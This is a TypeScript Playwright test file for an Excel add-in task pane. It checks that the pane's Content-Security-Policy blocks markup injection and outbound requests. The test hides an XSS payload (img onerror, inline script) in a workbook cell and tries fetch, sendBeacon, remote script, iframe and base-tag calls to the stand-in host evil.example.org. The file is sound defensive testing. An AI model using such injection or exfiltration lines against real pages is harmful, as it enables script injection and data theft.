/** The built pane under its own Content-Security-Policy: it works, breaks nothing of it, and asks nobody for anything. */
import type { Browser, Frame } from "playwright-core";
import { cellAt } from "../../playground/workbook/read";
import { setValue } from "../../playground/workbook/edits";
import type { Workbook } from "../../playground/workbook/model";
import { launchBrowser } from "../support/browser";
import { openInExcel, type InExcel } from "../support/webExcel";

const SAMPLE = "harborough-2013-14-q2.xlsx";
const MARKUP = '<img src="https://evil.example.org/x.png" onerror="document.title=1"><script>document.title=2</script>';

jest.setTimeout(120_000);

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

/** Of the pane's frame: what the browser said the policy forbids, on its console. */
function complaints({ page }: InExcel): string[] {
  const found: string[] = [];
  page.on("console", (message) => {
    if (/Content[- ]Security[- ]Policy/i.test(message.text())) found.push(message.text());
  });
  return found;
}

function paneFrame({ page }: InExcel): Frame {
  const frame = page.frames().find((each) => each.url().includes("/pane.html"));
  if (!frame) throw new Error("Expected the pane's frame; found none.");
  return frame;
}

/** Markup and an address in the texts of the first Key Activity that has progress. */
function withMarkup(workbook: Workbook): void {
  const [sheet] = workbook.sheets;
  if (!sheet) throw new Error("Expected a sheet; found none.");
  for (const row of sheet.rows.keys()) {
    const text = cellAt(sheet, row, 0)?.value;
    if (typeof text === "string" && text.startsWith("KA 01.01")) {
      setValue(workbook, sheet, row, 0, `${text} ${MARKUP}`);
      setValue(workbook, sheet, row, 1, MARKUP);
      return;
    }
  }
}

test("the whole job runs under the policy; no text becomes markup; no request but to its own origin and for office.js", async () => {
  const excel = await openInExcel(browser, SAMPLE, { prepare: withMarkup });
  const forbidden = complaints(excel);
  const { pane, strangers, faults } = excel;
  await pane.getByRole("button", { name: "Validate and roll up" }).click();
  await pane.getByRole("tab", { name: /^Sheets/ }).waitFor();
  for (const name of [/^Roll-up/, /^Sheets/, /^Settings/, /^Findings/]) {
    await pane.getByRole("tab", { name }).click();
    await pane.getByRole("tabpanel").waitFor();
  }
  await pane.getByText("<img src=").first().waitFor();
  const frame = paneFrame(excel);
  expect(await frame.locator("img[onerror], script:not([src])").count()).toBe(0);
  expect(await frame.title()).toBe("Key Activity tracker");
  // Fluent UI's styles are there: its rules could be put into its style elements.
  expect(
    await frame.evaluate(() => [...document.styleSheets].flatMap((sheet) => [...sheet.cssRules]).length),
  ).toBeGreaterThan(300);
  expect({ forbidden, strangers, faults }).toEqual({ forbidden: [], strangers: [], faults: [] });
});

/** Each is done in the pane's frame by the debugger, to which the policy does not apply; what it does is the page's. */
test("the policy forbids every other way out, and every other way in", async () => {
  const excel = await openInExcel(browser, SAMPLE);
  await excel.pane.getByRole("button", { name: "Validate and roll up" }).waitFor();
  const make = (name: string, properties: string) =>
    `document.body.append(Object.assign(document.createElement("${name}"), ${properties}))`;
  const acts: Readonly<Record<string, string>> = {
    "connect-src": 'fetch("https://evil.example.org/?q=1").catch(() => null)',
    "connect-src of its own server": 'fetch("/pane.html").catch(() => null)',
    "connect-src by beacon": 'navigator.sendBeacon("https://evil.example.org/")',
    "img-src": make("img", '{ src: "https://evil.example.org/x.png" }'),
    "script-src-elem": make("script", '{ src: "https://evil.example.org/x.js" }'),
    "script-src-elem in the page": make("script", '{ text: "document.title = 1" }'),
    "script-src-attr": 'document.body.setAttribute("onclick", "document.title = 1"); document.body.click()',
    "script-src by text": 'setTimeout("document.title = 1")',
    "style-src-elem": make("style", '{ textContent: "a{color:red}" }'),
    "style-src-elem from elsewhere": make("link", '{ rel: "stylesheet", href: "https://evil.example.org/x.css" }'),
    "frame-src": make("iframe", '{ src: "https://evil.example.org/" }'),
    "base-uri": make("base", '{ href: "https://evil.example.org/" }'),
  };
  const frame = paneFrame(excel);
  for (const [what, act] of Object.entries(acts)) {
    const broken = await frame.evaluate(
      `new Promise((done) => {
        document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), { once: true });
        ${act};
      })`,
    );
    expect({ what, broken }).toEqual({ what, broken: what.split(" ")[0] });
  }
  expect(await frame.title()).toBe("Key Activity tracker");
  expect(excel.strangers).toEqual([]);
});
